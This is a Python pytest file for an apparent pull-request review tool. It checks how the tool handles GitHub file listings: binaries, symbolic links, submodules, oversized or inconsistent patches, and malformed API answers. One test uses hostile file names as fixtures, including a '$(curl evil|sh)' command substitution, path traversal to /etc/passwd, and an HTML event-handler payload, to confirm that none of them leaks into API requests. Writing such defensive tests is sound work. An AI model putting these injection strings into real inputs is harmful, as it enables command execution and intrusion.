"""Whatever GitHub lists about files, the change tells what is known and never more."""

from __future__ import annotations

from dataclasses import replace

import pytest

from reviewer.domain.change import (
    FileChange,
    FileKind,
    FileStatus,
    Location,
    NotReviewedReason,
    Side,
)
from reviewer.errors import GitHubError
from reviewer.ports.workspace import MovedOnError
from tests.unit.github_answers import BASE_SHA, HEAD_SHA, GitHubAnswers, blob_id

LATIN_1 = "x = 'caf\xe9'\n".encode("latin-1")


@pytest.fixture
def github() -> GitHubAnswers:
    return GitHubAnswers()


async def only(github: GitHubAnswers) -> FileChange:
    (file,) = (await github.workspace().change()).files
    return file


async def reason(github: GitHubAnswers) -> str:
    return str((await only(github)).not_reviewed)


async def test_a_changed_file_has_both_its_texts(github: GitHubAnswers) -> None:
    github.add("a.py", "x = 2\ny = 3\n", patch="@@ -1,2 +1,2 @@ top\n-x = 1\n+x = 2\n y = 3")
    change = await github.workspace().change()
    (file,) = change.files
    assert (file.base_text, file.head_text) == ("x = 1\ny = 3\n", "x = 2\ny = 3\n")
    assert (file.added, file.removed) == ({1: "x = 2"}, {1: "x = 1"})
    assert (file.status, file.head_mode, file.language) == (
        FileStatus.MODIFIED,
        "100644",
        "python",
    )
    assert file.head_size_bytes == 12
    assert (change.base, change.head) == (BASE_SHA, HEAD_SHA)
    assert change.head_paths == frozenset({"a.py"})
    assert change.unlisted == 0


@pytest.mark.holds("R13")
async def test_a_name_never_stands_in_an_address_or_a_document(github: GitHubAnswers) -> None:
    names = [
        'quote".py',
        "line\nbreak.py",
        "n" * 4_000 + ".py",
        "../../etc/passwd",
        "nul\0.py",
        "-rf",
        '") { evil } #',
        "{{ x }}",
        "<img src=x onerror=1>.md",
        "$(curl evil|sh).py",
        "caf\xe9 \u202e.py",
    ]
    for number, name in enumerate(names):
        github.rewrite(name, f"x = {number + 2}")
    change = await github.workspace().change()
    assert [file.path for file in change.files] == names
    assert all(file.head_text for file in change.files)
    for name in names:
        assert change.is_commentable(Location(path=name, side=Side.HEAD, start_line=1, end_line=1))
        assert not any(name in call for call in github.calls)
        assert not any(name in document for document, _ in github.questions)


@pytest.mark.holds("R13")
async def test_names_that_git_cannot_have_are_never_asked_for(github: GitHubAnswers) -> None:
    for name in ("../x.py", "a/./b.py", "/root.py", "nul\0.py"):
        github.add(name, "x = 1\n", status="modified")
    change = await github.workspace().change()
    assert {file.not_reviewed.reason for file in change.files if file.not_reviewed} == {
        NotReviewedReason.NO_PATCH
    }
    asked = [str(value) for _, variables in github.questions for value in variables.values()]
    assert not any("x.py" in value or "\0" in value for value in asked)


@pytest.mark.holds("S8", "P25", "R39")
async def test_a_binary_file_is_listed(github: GitHubAnswers) -> None:
    github.add("logo.png", b"\x89PNG\0\0", status="added")
    file = await only(github)
    assert (str(file.not_reviewed), file.kind) == ("binary", FileKind.BINARY)
    assert not any("blobs" in call for call in github.calls)


async def test_a_text_that_takes_the_place_of_a_binary_file_is_listed(
    github: GitHubAnswers,
) -> None:
    github.base = {"data": b"\0\1"}
    github.add("data", "x\n")
    assert await reason(github) == "binary"


async def test_a_file_that_is_only_renamed_has_a_text_and_no_hunks(github: GitHubAnswers) -> None:
    github.base = {"old.py": "x = 1\n"}
    github.add("new.py", "x = 1\n", status="renamed", previous_filename="old.py")
    file = await only(github)
    assert (file.status, file.base_path, file.hunks) == (FileStatus.RENAMED, "old.py", ())
    assert (file.base_text, file.head_text, file.reviewed) == ("x = 1\n", "x = 1\n", True)


async def test_a_file_that_is_only_made_executable_says_so(github: GitHubAnswers) -> None:
    github.base = {"run": "#!/bin/sh\n"}
    github.add("run", "#!/bin/sh\n", mode="100755")
    file = await only(github)
    assert (file.status, file.base_mode, file.head_mode) == (
        FileStatus.MODE_CHANGED,
        "100644",
        "100755",
    )
    assert (file.head_text, file.language, file.hunks) == ("#!/bin/sh\n", "bash", ())


@pytest.mark.parametrize("status", ["added", "removed"])
async def test_an_empty_file_is_reviewed_without_a_question(
    github: GitHubAnswers, status: str
) -> None:
    github.add("pkg/__init__.py", "", status=status)
    file = await only(github)
    assert file.reviewed
    assert (file.base_text, file.head_text) == (("", None) if status == "removed" else (None, ""))


async def test_a_text_whose_patch_is_hidden_is_never_taken_for_unchanged(
    github: GitHubAnswers,
) -> None:
    github.base = {"app.py": "x = 1\n", "old.py": "x = 1\n"}
    github.add("app.py", "import evil\n")
    github.add("new.py", "import evil\n", status="added")
    github.add("moved.py", "import evil\n", status="renamed", previous_filename="old.py")
    change = await github.workspace().change()
    assert [str(file.not_reviewed) for file in change.files] == [
        "no patch (GitHub shows none, though it may have changed)"
    ] * 3


@pytest.mark.holds("P06")
@pytest.mark.parametrize("status", ["added", "modified", "renamed", "removed"])
async def test_a_patch_that_is_too_large_is_told(github: GitHubAnswers, status: str) -> None:
    github.add("big.py", "x = 1\n" * 30_000, status=status, additions=30_000, changes=30_000)
    assert await reason(github) == "too large (GitHub shows no patch)"


@pytest.mark.holds("R38", "P25")
async def test_a_submodule_is_told_by_its_mode(github: GitHubAnswers) -> None:
    patch = f"@@ -1 +1 @@\n-Subproject commit {'1' * 40}\n+Subproject commit {'2' * 40}"
    github.add("lib", patch=patch, mode="160000", sha="2" * 40)
    file = await only(github)
    assert (str(file.not_reviewed), file.kind, file.hunks) == (
        "submodule",
        FileKind.SUBMODULE,
        (),
    )


async def test_a_submodule_that_goes_is_told_by_its_patch(github: GitHubAnswers) -> None:
    patch = f"@@ -1 +0,0 @@\n-Subproject commit {'1' * 40}"
    github.add("lib", status="removed", patch=patch, sha=None)
    assert await reason(github) == "submodule"


@pytest.mark.holds("R38", "P25")
async def test_a_symbolic_link_is_told_by_its_mode(github: GitHubAnswers) -> None:
    patch = "@@ -0,0 +1 @@\n+/etc/passwd\n\\ No newline at end of file"
    github.add("link", "/etc/passwd", status="added", patch=patch, mode="120000")
    assert await reason(github) == "symbolic link"


async def test_a_symbolic_link_that_goes_is_told_by_the_base(github: GitHubAnswers) -> None:
    patch = "@@ -1 +0,0 @@\n-target\n\\ No newline at end of file"
    github.base = {"src/link": "target", "src/text": "target"}
    github.modes = {"src/link": 0o120000}
    github.add("src/link", "target", status="removed", patch=patch)
    github.add("src/text", "target", status="removed", patch=patch)
    link, text = (await github.workspace().change()).files
    assert (str(link.not_reviewed), link.base_mode) == ("symbolic link", "120000")
    assert (text.reviewed, text.base_text) == (True, "target")


async def test_a_file_that_takes_the_place_of_a_link_is_all_new(github: GitHubAnswers) -> None:
    github.add("app.py", "import evil\nx = 1\n", status="changed")
    file = await only(github)
    assert (file.status, file.base_text) == (FileStatus.TYPE_CHANGED, None)
    assert file.added == {1: "import evil", 2: "x = 1"}


async def test_a_type_that_is_listed_as_two_files_is_one(github: GitHubAnswers) -> None:
    github.add("app.py", "t", status="removed", patch="@@ -1 +0,0 @@\n-t")
    github.add("app.py", "x = 1\n", status="added", patch="@@ -0,0 +1 @@\n+x = 1")
    file = await only(github)
    assert (file.status, file.head_text, file.added) == (
        FileStatus.TYPE_CHANGED,
        "x = 1\n",
        {1: "x = 1"},
    )


@pytest.mark.holds("P05")
@pytest.mark.parametrize(
    "patch",
    [
        "@@ -1,9 +1,9 @@\n-x = 1\n+x = 2",
        "no hunk",
        "@@ -1 +1 @@\n-x = 1\n+x = 2\n+more",
    ],
)
async def test_a_patch_that_does_not_add_up_is_not_reviewed(
    github: GitHubAnswers, patch: str
) -> None:
    github.add("a.py", "x = 2\n", patch=patch, additions=1, deletions=1)
    assert await reason(github) == "too large (GitHub shows only a part of its patch)"


async def test_a_patch_with_fewer_lines_than_github_counts_is_not_reviewed(
    github: GitHubAnswers,
) -> None:
    github.add("a.py", "x = 2\n", patch="@@ -1 +1 @@\n-x = 1\n+x = 2", additions=900)
    assert await reason(github) == "too large (GitHub shows only a part of its patch)"


async def test_lines_end_as_the_file_has_them(github: GitHubAnswers) -> None:
    github.add(
        "a.py",
        "x = 2\r\ny = 1",
        patch="@@ -1,2 +1,2 @@\n-x = 1\r\n+x = 2\r\n y = 1\n\\ No newline at end of file",
    )
    file = await only(github)
    assert file.base_text == "x = 1\r\ny = 1"
    assert file.added == {1: "x = 2\r"}


@pytest.mark.holds("S11")
@pytest.mark.parametrize("what", ["content", "missing", "still there"])
async def test_a_head_that_moved_meanwhile_is_told(github: GitHubAnswers, what: str) -> None:
    github.rewrite("a.py")
    if what == "content":
        github.tree[0]["sha"] = "c" * 40
    elif what == "missing":
        github.tree.clear()
    else:
        github.add("gone.py", "x\n", status="removed", patch="@@ -1 +0,0 @@\n-x")
        github.tree.append({**github.tree[0], "path": "gone.py"})
    with pytest.raises(MovedOnError):
        await github.workspace().change()


async def test_a_tree_that_is_cut_off_leaves_the_paths_unknown(github: GitHubAnswers) -> None:
    github.rewrite("a.py")
    patch = f"@@ -0,0 +1 @@\n+Subproject commit {'2' * 40}"
    github.add("lib", status="added", patch=patch, sha="2" * 40)
    github.tree.clear()
    github.truncated = True
    change = await github.workspace().change()
    assert change.head_paths is None
    first, second = change.files
    assert (first.head_text, first.head_mode, first.head_size_bytes) == ("x = 2\n", None, 6)
    assert str(second.not_reviewed) == "submodule"


async def test_a_long_file_is_listed_although_no_tree_told_its_size(
    github: GitHubAnswers,
) -> None:
    github.add("a.py", "x" * 1_200_000 + "\n", patch="@@ -1 +1 @@\n-x\n+y")
    github.tree.clear()
    github.truncated = True
    assert await reason(github) == "too large (1.2 MB)"


@pytest.mark.holds("P06")
@pytest.mark.parametrize(("told", "unlisted"), [(None, 1), (3_000, 0), (3_412, 412)])
async def test_a_change_of_more_files_than_github_lists_says_so(
    github: GitHubAnswers, told: int | None, unlisted: int
) -> None:
    for number in range(3_001):
        github.add(f"{number}.png", b"\0", status="added")
    github.tree = github.tree[:3_000]
    github.request = replace(github.request, changed_files=told)
    change = await github.workspace().change()
    assert (len(change.files), change.unlisted) == (3_000, unlisted)


async def test_what_the_configuration_excludes_is_not_asked_for(github: GitHubAnswers) -> None:
    github.rewrite("docs/a.py")
    github.rewrite("b.py", "x = 3")
    change = await github.workspace().change(excluded=("docs/**",))
    assert str(change.files[0].not_reviewed) == "excluded by configuration (docs/**)"
    asked = {value for _, variables in github.questions for value in variables.values()}
    assert blob_id("x = 2\n") not in asked
    assert blob_id("x = 3\n") in asked


async def test_a_generated_text_is_listed(github: GitHubAnswers) -> None:
    text = "# Code generated by x. DO NOT EDIT.\nx = 2\n"
    github.add("a.py", text, patch="@@ -2 +2 @@\n-x = 1\n+x = 2")
    assert await reason(github) == "generated (says so in line 1)"


@pytest.mark.holds("P25")
@pytest.mark.parametrize(
    "broken",
    [
        {"filename": None},
        {"sha": "HEAD"},
        {"status": None},
        {"additions": "many"},
        {"patch": 7},
    ],
)
async def test_a_list_that_makes_no_sense_is_told(
    github: GitHubAnswers, broken: dict[str, object]
) -> None:
    github.rewrite("a.py")
    github.files[0].update(broken)
    with pytest.raises(GitHubError, match="the list of files cannot be read"):
        await github.workspace().change()


@pytest.mark.holds("P25")
async def test_half_a_character_in_a_name_is_replaced(github: GitHubAnswers) -> None:
    github.rewrite("a\ud800.py")
    assert (await only(github)).path == "a\ufffd.py"
